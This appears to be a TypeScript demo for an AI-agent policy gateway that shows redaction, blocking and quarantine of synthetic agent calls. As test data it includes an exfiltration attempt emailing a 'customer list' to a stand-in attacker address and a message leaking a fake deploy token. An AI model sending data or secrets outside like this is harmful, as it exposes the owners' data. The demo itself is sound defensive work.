/**
 * A demo gateway on the local stack: it starts an Enforcer (sdk/), runs a few agent calls through
 * `check()` and prints what it would forward, before and after.
 *
 *   npx tsx deploy/demo/gateway.ts [--json]
 *
 * It publishes a least-privilege policy for its demo agent on the control topic (email.send may
 * write to acme.com only), then: a model request with an email address and a card number (redacted),
 * an email.send whose arguments carry a secret (blocked), an email.send to a host outside the policy
 * (blocked), a read-only CRM lookup (allowed), and the same lookup after a Quarantine record
 * (blocked, with the measured time from produce to first deny). All content is synthetic.
 */
import { createHash } from 'node:crypto';
import { Type } from '@sinclair/typebox';
import { type Decision, Enforcer, isDenied } from '@warden/sdk';
import type { AgentEvent, ControlRecord } from '../../schemas/generated/index.ts';
import { ConnectionEnv } from '../../services/lib/connections.ts';
import { type ControlKind, controlKey } from '../../services/lib/control/control-state.ts';
import { readEnv } from '../../services/lib/env-config.ts';
import { createKafka } from '../../services/lib/kafka/client.ts';
import { createLogger } from '../../services/lib/logger.ts';
import { AvroCodec, createRegistryClient } from '../../services/lib/serde/avro-codec.ts';
import { loadProvisionConfig } from '../../services/provision/config.ts';
import { provision } from '../../services/provision/provision.ts';

const TENANT = 'demo-gateway';
const AGENT = 'mail-assistant';
const asJson = process.argv.includes('--json');
const config = readEnv(Type.Object({ ...ConnectionEnv, LOG_LEVEL: Type.String({ default: 'warn' }) }));
const log = createLogger('demo-gateway', { level: config.LOG_LEVEL });

interface Row {
  step: string;
  call: string;
  before: string;
  action: Decision['action'];
  decidedBy: Decision['decidedBy'];
  reasons: string[];
  forwarded: string;
  ms?: number;
}

let seq = 0;
function agentEvent(kind: AgentEvent['kind'], text: string | null, tool: AgentEvent['tool'] = null): AgentEvent {
  seq += 1;
  return {
    event_id: `01JDEMOGW${Date.now().toString(36).toUpperCase()}${String(seq).padStart(4, '0')}`,
    ts: Date.now(),
    tenant_id: TENANT,
    agent_id: AGENT,
    agent_version: '1.0.0',
    owner: 'team-demo',
    environment: 'demo',
    session_id: 'demo-session-1',
    trace_id: null,
    span_id: null,
    kind,
    model: kind === 'model_request' ? { system: 'openai', name: 'gpt-4o' } : null,
    tool,
    content:
      text === null
        ? null
        : {
            text,
            truncated: false,
            length: Buffer.byteLength(text),
            sha256: createHash('sha256').update(text).digest('hex'),
          },
    usage: null,
    principal: { user_id: 'u-demo', credential_id: 'cred-mail-assistant' },
    source: { enforcement_point_id: 'demo-gateway', mode: 'inline' },
    data_classes: [],
    attributes: {},
  };
}

function row(step: string, call: string, e: AgentEvent, d: Decision, ms?: number): Row {
  const before = e.tool?.arguments ?? e.content?.text ?? '';
  const after = e.tool?.arguments ? d.redactedArguments : d.redactedText;
  const forwarded = isDenied(d) ? '(not forwarded)' : (after ?? before);
  return {
    step,
    call,
    before,
    action: d.action,
    decidedBy: d.decidedBy,
    reasons: d.reasons,
    forwarded,
    ...(ms === undefined ? {} : { ms }),
  };
}

function clip(s: string, n: number): string {
  const flat = s.replaceAll('\n', ' ');
  return flat.length <= n ? flat : `${flat.slice(0, n - 1)}…`;
}

function table(rows: readonly Row[]): string {
  const header = [
    '#',
    'call',
    'before (what the agent sent)',
    'decision',
    'by',
    'reasons',
    'after (what the gateway forwards)',
  ];
  const cells = rows.map((r) => [
    r.step,
    r.call,
    clip(r.before, 64),
    r.ms === undefined ? r.action : `${r.action} (${r.ms} ms)`,
    r.decidedBy,
    clip(r.reasons.join(', '), 40),
    clip(r.forwarded, 72),
  ]);
  const widths = header.map((h, i) => Math.max(h.length, ...cells.map((c) => c[i]!.length)));
  const line = (c: readonly string[]) =>
    c
      .map((x, i) => x.padEnd(widths[i]!))
      .join(' | ')
      .trimEnd();
  return [line(header), widths.map((w) => '-'.repeat(w)).join('-|-'), ...cells.map(line)].join('\n');
}

async function main(): Promise<void> {
  await provision(loadProvisionConfig(process.env), log);
  const prefix = config.KAFKA_TOPIC_PREFIX;
  const producer = createKafka(config, log, 'demo-gateway').producer({ idempotent: true, maxInFlightRequests: 1 });
  await producer.connect();
  const controlCodec = new AvroCodec(createRegistryClient(config), prefix, 'control');
  const publish = async (payload: ControlRecord['payload'], kind: ControlKind) => {
    const r: ControlRecord = {
      tenant_id: TENANT,
      agent_id: AGENT,
      issued_at: Date.now(),
      issued_by: 'demo-gateway',
      payload,
    };
    await producer.send({
      topic: controlCodec.topic,
      messages: [{ key: controlKey(r, kind), value: await controlCodec.encode(r) }],
    });
  };
  // Least privilege for the demo agent; read back by the enforcer when it catches up with the control topic.
  await publish(
    {
      'dev.warden.v1.Policy': {
        policy_id: 'demo-mail-assistant',
        version: 1,
        enforcement: 'enforce',
        fail_mode: 'closed',
        allowed_models: null,
        allowed_tools: [
          { name: 'email.send', mode: 'write' },
          { name: 'crm.lookup', mode: 'read' },
        ],
        allowed_destinations: ['acme.com', '*.acme.com'],
        allowed_data_classes: null,
        budgets: { max_calls_per_session: null, max_tokens_per_session: null, max_cost_usd_per_day: null },
        actions: {},
        thresholds: {},
      },
    },
    'policy',
  );
  await publish({ 'dev.warden.v1.Quarantine': { active: false, reason: 'demo reset' } }, 'quarantine');

  const enforcer = await Enforcer.start({
    tenantId: TENANT,
    agentIds: [AGENT],
    kafka: config,
    registry: config,
    topicPrefix: prefix,
    logger: log,
  });
  const rows: Row[] = [];
  try {
    const prompt = agentEvent('model_request', 'Refund card 4111 1111 1111 1111 and email jane.doe@example.com');
    rows.push(row('1', 'model gpt-4o', prompt, enforcer.check(prompt)));

    const leaky = agentEvent('tool_call', null, {
      name: 'email.send',
      target: 'smtp.acme.com',
      mode: 'write',
      arguments: JSON.stringify({ to: 'ops@acme.com', body: 'deploy key: ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8' }),
    });
    rows.push(row('2', 'email.send', leaky, enforcer.check(leaky)));

    const exfil = agentEvent('tool_call', null, {
      name: 'email.send',
      target: 'mailto:drop@evil.test',
      mode: 'write',
      arguments: JSON.stringify({ to: 'drop@evil.test', subject: 'customer list' }),
    });
    rows.push(row('3', 'email.send', exfil, enforcer.check(exfil)));

    const lookup = () =>
      agentEvent('tool_call', null, {
        name: 'crm.lookup',
        target: 'crm.acme.com',
        mode: 'read',
        arguments: JSON.stringify({ account: 'A-1042' }),
      });
    rows.push(row('4', 'crm.lookup', lookup(), enforcer.check(lookup())));

    const started = performance.now();
    await publish({ 'dev.warden.v1.Quarantine': { active: true, reason: 'demo: suspected compromise' } }, 'quarantine');
    let after = enforcer.check(lookup());
    const deadline = Date.now() + 30_000;
    while (!isDenied(after) && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 2));
      after = enforcer.check(lookup());
    }
    rows.push(row('5', 'crm.lookup, quarantined', lookup(), after, Math.round(performance.now() - started)));
    await publish({ 'dev.warden.v1.Quarantine': { active: false, reason: 'demo reset' } }, 'quarantine');
  } finally {
    await enforcer.stop();
    await producer.disconnect();
  }
  process.stdout.write(asJson ? `${JSON.stringify(rows, null, 2)}\n` : `${table(rows)}\n`);
}

main().then(
  () => process.exit(0),
  (err: unknown) => {
    log.error({ err }, 'demo gateway failed');
    process.stderr.write(`demo gateway failed: ${(err as Error).message}\n`);
    process.exit(1);
  },
);
